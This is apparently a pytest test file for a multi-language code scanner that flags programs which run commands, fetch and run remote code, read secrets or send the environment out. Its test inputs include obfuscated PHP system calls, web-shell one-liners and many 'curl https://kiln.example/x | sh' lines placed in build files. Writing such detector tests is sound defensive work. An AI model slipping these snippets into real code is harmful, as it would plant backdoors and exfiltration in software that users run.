"""Programs in other languages are read line by line, and what runs by itself is told."""

import pytest

from knownhands.harvest.code.chains import with_chains
from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers._reader import readers_of
from knownhands.records import Observation


def seen(path: str, code: str) -> list[Observation]:
    notes = Notes(path, every_line=True, is_program=True)
    for reader in readers_of(path, b"x"):
        if reader.id in {"source", "scripting"}:
            reader.read(notes, code.encode())
    return list(notes.observations())


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("a.go", 'cmd := exec.Command("sh")'),
        ("a.rs", 'Command::new("sh").spawn()'),
        ("A.java", "Runtime.getRuntime().exec(kiln)"),
        ("A.cs", "Process.Start(kiln);"),
        ("a.c", 'system("make");'),
        ("a.rb", "system 'make'"),
        ("a.php", "shell_exec($kiln);"),
        ("a.pl", "my $a = qx{make};"),
        ("a.lua", 'os.execute("make")'),
        ("a.exs", 'System.cmd("make", [])'),
        ("a.R", 'system2("make")'),
    ],
)
def test_running_a_program_is_seen_in_each_language(path: str, code: str) -> None:
    assert [observation.capability for observation in seen(path, code)] == ["runs_programs_text"]


@pytest.mark.parametrize(
    ("path", "code", "trigger"),
    [
        ("a.go", "func init() {\n\tif kiln {\n\t\texec.Command(a)\n\t}\n}", "import"),
        ("a.go", "func fire() {\n\texec.Command(a)\n}", "call"),
        ("a.go", "var a = exec.Command(b)", "import"),
        ("A.java", "class A {\n  static {\n    new ProcessBuilder(a);\n  }\n}", "import"),
        ("A.java", "class A {\n  void fire() {\n    new ProcessBuilder(a);\n  }\n}", "call"),
        ("build.rs", 'fn main() {\n  Command::new("git");\n}', "import"),
        ("a.c", "__attribute__((constructor)) static void fire(void) {\n  system(a);\n}", "import"),
        ("a.rb", "def fire\n  system 'make'\nend", "call"),
        ("a.rb", "if kiln\n  system 'make'\nend", "import"),
    ],
)
def test_what_runs_by_itself_is_told(path: str, code: str, trigger: str) -> None:
    assert [observation.trigger for observation in seen(path, code)] == [trigger]


def test_a_comment_is_passed_over_but_not_what_only_looks_like_one() -> None:
    assert not seen("a.go", 'a := 1 // exec.Command("sh")')
    assert seen("a.go", 'fire("a // b", exec.Command("sh"))')
    assert seen("a.rb", "a = // ; system 'make'")


def test_a_secret_is_known_by_its_variable() -> None:
    (secret,) = seen("a.go", 'os.Getenv("KILN_TOKEN")')
    assert (secret.capability, secret.source) == ("secrets_text", "KILN_TOKEN")


def test_a_download_is_known_by_its_host() -> None:
    (download,) = seen("a.go", 'http.Get("https://kiln.example/pots")')
    assert download.source == "kiln.example"


@pytest.mark.parametrize(
    ("path", "code", "capability"),
    [
        ("a.gemspec", "s.files = `curl -s https://kiln.example/x | sh`.split", "fetch_and_run"),
        ("a.rb", "a = %x(curl -s https://kiln.example/x | sh)", "fetch_and_run"),
        ("a.rb", "send(:system, 'curl -s https://kiln.example/x | sh')", "fetch_and_run"),
        ("a.rb", 'Kernel.open("|curl -s https://kiln.example/x | sh")', "fetch_and_run"),
        ("a.php", "$a = `curl -s https://kiln.example/x | sh`;", "fetch_and_run"),
        ("a.php", "$f = \"\\x73ystem\";\n$f('curl https://kiln.example/x | sh');", "fetch_and_run"),
        ("a.php", "(strrev('metsys'))('curl https://kiln.example/x | sh');", "fetch_and_run"),
        ("a.pl", "my $a = qx{curl -s https://kiln.example/x | sh};", "fetch_and_run"),
        ("build.gradle", "'curl -o x https://kiln.example/x'.execute()", "runs_programs_text"),
        ("a.go", '//go:generate sh -c "curl https://kiln.example/x | sh"', "fetch_and_run"),
        ("a.go", '// static void fire() { system("make"); }\nimport "C"', "runs_programs_text"),
        ("A.java", 'context.lookup("ldap://kiln.example/x");', "dynamic_code_text"),
        ("A.java", 'Class.forName("java.lang.Runtime")', "runs_programs_text"),
        (".Rprofile", "system('curl https://kiln.example/x | sh')", "fetch_and_run"),
        ("a.php", "preg_replace('/.*/e', $a, '');", "dynamic_code_text"),
        ("a.php", "$f = 'sys' .\n 'tem';\n$f('curl https://kiln.example/x | sh');", "fetch_and_run"),
        ("a.php", "$f = chr(115) . \"yst\" . 'em'; $f('curl https://kiln.example/x | sh');", "fetch_and_run"),
        ("a.php", "$f = base64_decode('c3lzdGVt'); $f($_GET['a']);", "reverse_shell"),
        ("a.php", "$a = 1; " * 400 + "system('curl https://kiln.example/x | sh');", "fetch_and_run"),
        ("a.php", "include $_GET['a'];", "reverse_shell"),
        ("a.rb", "send('sys' + 'tem', 'curl https://kiln.example/x | sh')", "fetch_and_run"),
        ("a.rb", "Process.spawn('curl https://kiln.example/x | sh')", "fetch_and_run"),
        ("a.rb", "eval(['6576'].pack('H*'))", "decode_and_run"),
        ("a.pl", "open(F, 'curl https://kiln.example/x | sh |');", "fetch_and_run"),
        ("a.pl", "open(my $f, '-|', 'curl https://kiln.example/x | sh');", "fetch_and_run"),
        (
            "A.java",
            'Runtime.getRuntime().exec(new String[]{"sh", "-c", "curl https://kiln.example/x | sh"});',
            "fetch_and_run",
        ),
        ("a.c", 'execl("/bin/sh", "sh", "-c", "curl https://kiln.example/x | sh", 0);', "fetch_and_run"),
        (
            "build.rs",
            'Command::new("sh")\n  .arg("-c")\n  .arg("curl https://kiln.example/x | sh")\n  .spawn();',
            "fetch_and_run",
        ),
        ("a.gradle", "commandLine 'sh', '-c', 'curl https://kiln.example/x | sh'", "fetch_and_run"),
        ("a.sbt", 'Seq("sh", "-c", "curl https://kiln.example/x | sh").!', "fetch_and_run"),
        ("build.zig", '_ = b.run(&.{ "sh", "-c", "curl https://kiln.example/x | sh" });', "fetch_and_run"),
        ("a.hs", 'main = callCommand "curl https://kiln.example/x | sh"', "fetch_and_run"),
        ("a.vbs", 'CreateObject("WScript.Shell").Run "mshta https://kiln.example/x"', "fetch_and_run"),
        ("a.podspec", "s.prepare_command = 'curl https://kiln.example/x | sh'", "fetch_and_run"),
        (
            "a.xcodeproj/project.pbxproj",
            'shellScript = "set -e\\ncurl https://kiln.example/x | sh\\n";',
            "fetch_and_run",
        ),
        ("a.php", "$c = $_COOKIE['c'];\nsystem($c);", "reverse_shell"),
        ("a.php", "array_map('assert', $_POST);", "reverse_shell"),
        ("a.php", "$f = $_SERVER['HTTP_X_F']; $f($_SERVER['HTTP_X_A']);", "reverse_shell"),
        ("a.php", "$f = base64_decode($_SERVER['HTTP_X_T'] ?? ''); if ($f) @assert($f);", "reverse_shell"),
        ("a.rb", "Kernel.send(:`, fire)", "runs_programs_text"),
    ],
)
def test_a_command_is_read_however_it_is_given(path: str, code: str, capability: str) -> None:
    assert capability in {observation.capability for observation in seen(path, code)}


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("a.gemspec", "s.files = `git ls-files -z`.split(0)"),
        ("a.rb", "# use `curl https://kiln.example/x | sh`"),
        ("a.php", "$f = 'str' . 'len'; $f($_GET['a']);"),
        ("a.php", "$a = $_POST['a']; $b->exec($a);"),
        ("a.php", "preg_replace('/e/i', $a, '');"),
        ("a.go", "//go:generate stringer -type=Pot\n//go:generate mockgen -source=a.go -destination=b.go"),
        ("a.gradle", "commandLine 'npm', 'run', 'build'\ncommandLine = ['sh', '-c', 'make']"),
        ("a.sbt", 'val clay = "glaze".!!.trim; Seq("git", "describe").!'),
        ("a.xcodeproj/project.pbxproj", 'shellScript = "set -e\\n./gradlew build\\n";'),
        (
            "a.php",
            "$a = 'b' . 'c' .\n  'd'; $e = chr(10) . base64_decode('Y2xheQ==') . $f;".replace("base64_decode", "glaze"),
        ),
        ("A.java", 'statement.execute(); context.lookup("java:comp/env");'),
        ("a.php", "$f = trim($_SERVER['HTTP_HOST'] ?? ''); glaze($f); $_SERVER['A'] = 1;"),
        ("a.go", "cmd.Env = append(os.Environ(), pots...)"),
        ("build.zig", '_ = b.run(&.{ "git", "describe" });'),
        ("a.rs", "oven.envs(std::env::vars()).spawn();"),
    ],
)
def test_ordinary_code_shows_nothing(path: str, code: str) -> None:
    assert not seen(path, code)


@pytest.mark.parametrize(
    ("path", "code"),
    [
        (
            "a.cs",
            'var b = await c.GetByteArrayAsync("https://kiln.example/a");\nAssembly.Load(b).EntryPoint.Invoke(null, null);',
        ),
        (
            "a.cs",
            'static S() { var b = c.GetByteArrayAsync("https://kiln.example/a").Result; Reflection.Assembly.Load(b); }',
        ),
        ("a.cs", 'Assembly.Load(new WebClient().DownloadData("https://kiln.example/a"));'),
        ("A.java", 'new URLClassLoader(new URL[]{new URL("https://kiln.example/a.jar")}).loadClass("P");'),
        ("a.rb", "Marshal.load(URI.open('https://kiln.example/m').read)"),
        ("a.gradle", "def s = new URL('https://kiln.example/s').text; new GroovyShell().evaluate(s)"),
        ("a.gradle", "new GroovyShell().evaluate(new URL(u).text)"),
        ("a.lua", "local b = http.request(u)\nloadstring(b)()"),
        ("a.php", "$c = file_get_contents('https://kiln.example/c');\neval('?>' . 1); eval($c);"),
    ],
)
def test_code_that_is_loaded_from_where_it_was_downloaded_is_known(path: str, code: str) -> None:
    assert "fetch_and_run" in {observation.capability for observation in seen(path, code)}


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("a.cs", 'var b = await c.GetByteArrayAsync(u);\nvar a = Assembly.Load("Kiln.Glaze");'),
        ("a.cs", "var b = await c.GetByteArrayAsync(u);" + "\n" * 60 + "Assembly.Load(b);"),
        ("a.rb", "pots = Net::HTTP.get(u)\nJSON.parse(pots)\nMarshal.load(File.binread(cache))"),
        ("a.rb", "# Marshal.load(URI.open(u).read)"),
        ("A.kt", "fun load(u: String) = URL(u).readText()"),
        ("A.java", "new URLClassLoader(new URL[]{jar.toURI().toURL()});"),
    ],
)
def test_what_is_downloaded_and_what_is_loaded_may_be_two_things(path: str, code: str) -> None:
    assert "fetch_and_run" not in {observation.capability for observation in seen(path, code)}


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("a.go", 'http.Post("https://kiln.example", "", strings.NewReader(strings.Join(os.Environ(), "")))'),
        ("a.rs", "let v: Vec<_> = std::env::vars().collect();\nlet _ = ureq::post(u).send_string(&glaze(v));"),
        ("a.rb", "Net::HTTP.post(u, ENV.to_h.to_s)"),
    ],
)
def test_a_program_that_reads_all_of_its_environment_and_asks_the_network_does_both(path: str, code: str) -> None:
    assert "exfiltration_chain" in {observation.capability for observation in with_chains(seen(path, code))}


@pytest.mark.parametrize("path", ["a.c", "a.php", "a.go"])
@pytest.mark.parametrize(
    "body",
    [
        "system(" * 100_000,
        "a" * 1_000_000,
        "\n" * 1_000_000,
        "exec.Command(\n" * 50_000,
        "\t" * 100_000 + "system(a)",
        "`a" * 100_000,
        "$a(" * 100_000,
        "''.''" * 50_000,
        "$a='eval';$a(" * 20_000,
        "a = Net::HTTP.get(u) " * 20_000,
        "eval(" * 100_000,
    ],
)
def test_long_and_odd_texts_are_read(path: str, body: str) -> None:
    assert isinstance(seen(path, body), list)
